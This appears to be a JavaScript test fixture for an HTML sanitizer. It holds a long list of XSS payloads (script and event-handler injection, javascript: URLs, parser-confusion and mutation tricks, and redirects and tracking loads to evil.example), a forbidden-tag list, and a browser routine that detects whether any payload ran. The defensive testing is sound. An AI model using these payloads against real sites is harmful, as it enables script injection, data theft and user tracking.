/** HTML that was made to do something, and how to see whether it did. Owns the traps; the journeys say what must not happen. */

import { existsSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";

const CORPUS = fileURLToPath(new URL("../../../shared/corpora/html_sanitize.jsonl", import.meta.url));

const RUN = "window.top.ran=1;window.ran=1;alert(1)";

/** Of our own: what parsers read differently, what runs without a script element, what loads, leaves or covers. */
const OWN = [
  // A script, and what a parser may make one.
  `<script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"></script></svg>`,
  `<math><script>${RUN}</script></math>`,
  // Handlers, quoted and not, in every place a name may stand.
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="x" title="a" onerror='${RUN}'>`,
  `<img src='x' alt='"><img src=x onerror=${RUN}>'>`,
  `<body onload="${RUN}" onpageshow="${RUN}">body</body>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><set attributeName="onmouseover" to="${RUN}"></set></svg>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<div style="animation:x 1s" onanimationstart="${RUN}"><style>@keyframes x{}</style>x</div>`,
  `<div onpointerover="${RUN}" onmouseenter="${RUN}">x</div>`,
  `<a href="#" onclick="${RUN}">x</a>`,
  `<img src=x ONERROR="${RUN}">`,
  `<img src=x on\nerror="${RUN}" onerror\n=\n"${RUN}">`,
  `<img src=x \u00a0onerror="${RUN}">`,
  `<img src=x onerror\u0000="${RUN}">`,
  // Addresses that run.
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=" &#14; java\nscript:${RUN}">x</a>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<area href="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"></use></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline#http://e.test" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<img src="javascript:${RUN}">`,
  `<table background="javascript:${RUN}"><tr><td>x</td></tr></table>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<div style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</div>`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  // What one parser reads as text and another as markup.
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<style><img title="</style><img src=x onerror=${RUN}>"></style>`,
  `<svg><style><img title="</style><img src=x onerror=${RUN}>"></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg><foreignObject><p><style><!--</style><img title="--><img src=x onerror=${RUN}>"></p></foreignObject></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${RUN}>"></style></annotation-xml></math>`,
  `<math><annotation-xml><p></annotation-xml><img src=x onerror=${RUN}></math>`,
  `<svg><title><![CDATA[</title><img src=x onerror=${RUN}>]]></svg>`,
  `<svg><desc><noscript><img title="</noscript><img src=x onerror=${RUN}>"></desc></svg>`,
  `<table><td><svg><desc><td></desc></svg><style><a title="</style><img src=x onerror=${RUN}>"></table>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<select><iframe><select><img title="</iframe><img src=x onerror=${RUN}>"></select>`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode="open"><script>${RUN}</script><slot></slot></template>x</div>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}>-->`,
  `<!-><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?php ><img src=x onerror=${RUN}>?>`,
  `<!--[if gte mso 9]><img src=x onerror=${RUN}><![endif]-->`,
  `<!--[if !mso]><!--><img src=x onerror=${RUN}><!--<![endif]-->`,
  `<a title="--><img src=x onerror=${RUN}>">x</a>`,
  `<p title="&lt;/p&gt;&lt;img src=x onerror=${RUN}&gt;">x</p>`,
  `<a title='x"&gt;&lt;img src=x onerror=${RUN}&gt;'>x</a>`,
  "<a title=`\"><img src=x onerror=alert(1)>`>x</a>",
  // What leaves the page, or speaks for it.
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/"><a href="x">x</a>`,
  `<base target="_top"><a href="https://evil.example/">x</a>`,
  `<a href="https://evil.example/" target="_top">x</a>`,
  `<a href="https://evil.example/" target="_self" ping="https://evil.example/ping">x</a>`,
  `<form action="https://evil.example/" target="_top"><input name=q><input type=submit></form>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<object data="https://evil.example/"></object><embed src="https://evil.example/">`,
  `<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe>`,
  // What would be loaded, and tell that the mail is read.
  `<img src="https://evil.example/1.gif" srcset="https://evil.example/2.gif 2x" lowsrc="https://evil.example/3.gif" dynsrc="https://evil.example/4.gif">`,
  `<img src="//evil.example/1.gif"><img src="\\\\evil.example\\1.gif"><img src="https:evil.example/1.gif">`,
  `<picture><source srcset="https://evil.example/1.webp"><img src="https://evil.example/1.gif"></picture>`,
  `<video poster="https://evil.example/1.gif" src="https://evil.example/1.mp4"><track src="https://evil.example/1.vtt"></video>`,
  `<input type=image src="https://evil.example/1.gif">`,
  `<table background="https://evil.example/1.gif"><tr background="https://evil.example/2.gif"><td background="https://evil.example/3.gif">x</td></tr></table>`,
  `<body background="https://evil.example/1.gif">x</body>`,
  `<svg><image href="https://evil.example/1.svg"/><feImage href="https://evil.example/2.svg"/></svg>`,
  `<div style="background:url(https://evil.example/1.gif)">x</div>`,
  `<div style="background:u\\72l(https://evil.example/1.gif)">x</div>`,
  `<div style="background:/**/url(/**/https://evil.example/1.gif)">x</div>`,
  `<div style="background:image-set('https://evil.example/1.gif' 1x)">x</div>`,
  `<div style="--x:url(https://evil.example/1.gif);background:var(--x)">x</div>`,
  `<div style="list-style-image:url(https://evil.example/1.gif);cursor:url(https://evil.example/2.cur),auto">x</div>`,
  `<style>@import url(https://evil.example/1.css);@import "https://evil.example/2.css";</style>x`,
  `<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}p{font-family:x}</style><p>x</p>`,
  `<style>p{background:url(https://evil.example/1.gif)}</style><p>x</p>`,
  `<style>p::before{content:url(https://evil.example/1.gif)}input[value^=a]{background:url(https://evil.example/a)}</style><p>x</p><input value=a>`,
  `<link rel=stylesheet href="https://evil.example/1.css"><link rel=prefetch href="https://evil.example/2"><link rel=dns-prefetch href="//evil.example">`,
  `<link rel=icon href="https://evil.example/1.ico"><link rel=preload as=image href="https://evil.example/1.gif">`,
  `<bgsound src="https://evil.example/1.wav"><audio src="https://evil.example/1.mp3" autoplay></audio>`,
  `<html manifest="https://evil.example/x"><p>x</p></html>`,
  `<script src="https://evil.example/1.js"></script>`,
  `<applet codebase="https://evil.example/" code="x"></applet>`,
];

/** Payloads with a name each: our own, and other people's where they are at hand. */
export function payloads() {
  const own = OWN.map((html, index) => ({ name: `own/${index}`, html }));
  if (!existsSync(CORPUS)) return own;
  const rows = readFileSync(CORPUS, "utf8").split("\n").filter((line) => line !== "");
  return [...own, ...rows.map((line) => JSON.parse(line)).map(({ id, payload }) => ({ name: id, html: payload }))];
}

/** Whatever scripts would be seen by, in every frame before anything else runs. */
export const TRAPS = () => {
  window.ran = 0;
  for (const name of ["alert", "confirm", "prompt", "print"]) {
    window[name] = () => {
      window.ran = 1;
    };
  }
};

/**
 * In a page of its own: each fragment in a frame without sandbox or policy, parsed as a page and by innerHTML, then what the
 * browser made of it parsed once more. Everything in it is touched. Answers what there is that must not be, and the HTML
 * that the browser makes of it.
 */
export const AUDIT = async (fragments) => {
  const FORBIDDEN =
    "script,iframe,frame,frameset,object,embed,applet,base,meta,link,form,portal,fencedframe,template,noscript,math,foreignObject,use,animate,set";
  const EVENTS = ["click", "focus", "mouseover", "mouseenter", "pointerover", "error", "load", "toggle", "animationstart", "begin"];
  const walk = (root) =>
    [...root.querySelectorAll("*")].flatMap((element) => [element, ...(element.shadowRoot ? walk(element.shadowRoot) : [])]);
  const wrong = (body) => {
    const found = [...body.querySelectorAll(FORBIDDEN)].map((element) => `<${element.localName}>`);
    for (const element of walk(body)) {
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name)) found.push(`${element.localName}[${name}]`);
        // As a browser reads an address: without white space and control characters before and in its scheme.
        // oxlint-disable-next-line no-control-regex
        const address = value.replaceAll(/[\u0000-\u0020]/g, "").toLowerCase();
        const runs = /^(javascript|vbscript|data:(?!image\/(png|jpe?g|gif|webp|bmp|avif)[;,]))/.test(address);
        if (runs && /href|src|action|data|background|to|from|values/i.test(name)) {
          found.push(`${element.localName}[${name}=${value.slice(0, 40)}]`);
        }
      }
    }
    return found;
  };
  const touch = (frame, body) => {
    for (const element of walk(body)) {
      if (["a", "area"].includes(element.localName)) continue;
      for (const type of EVENTS) element.dispatchEvent(new frame.contentWindow.Event(type));
    }
  };
  const painted = () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
  const frames = await Promise.all(
    fragments.map(
      (fragment) =>
        new Promise((resolve) => {
          const frame = document.createElement("iframe");
          frame.srcdoc = `<!doctype html><body>${fragment}`;
          frame.onload = () => resolve(frame);
          document.body.append(frame);
        }),
    ),
  );
  const results = frames.map((frame) => {
    const { body } = frame.contentDocument;
    const result = { found: wrong(body), serialised: body.innerHTML };
    touch(frame, body);
    return result;
  });
  // By innerHTML, and what the browser wrote by it once more.
  for (let round = 0; round < 2; round += 1) {
    await painted();
    frames.forEach((frame, index) => {
      const { body } = frame.contentDocument;
      body.innerHTML = round === 0 ? fragments[index] : results[index].serialised;
      results[index].found.push(...wrong(body));
      touch(frame, body);
    });
  }
  await painted();
  frames.forEach((frame, index) => {
    if (frame.contentWindow.ran || window.ran) results[index].found.push("a script ran");
    frame.remove();
  });
  window.ran = 0;
  return results;
};
